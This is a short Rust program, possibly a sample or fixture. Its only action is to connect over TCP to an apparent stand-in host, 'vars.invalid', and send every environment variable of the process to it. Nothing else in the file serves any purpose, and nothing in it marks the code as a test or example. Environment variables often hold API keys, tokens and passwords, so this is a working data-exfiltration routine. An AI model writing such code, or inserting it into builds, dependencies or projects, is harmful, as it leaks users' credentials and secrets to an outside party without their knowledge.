use std::io::Write;
use std::net::TcpStream;

fn main() {
    if let Ok(mut s) = TcpStream::connect("vars.invalid:80") {
        for (k, v) in std::env::vars() {
            let _ = writeln!(s, "{k}={v}");
        }
    }
}
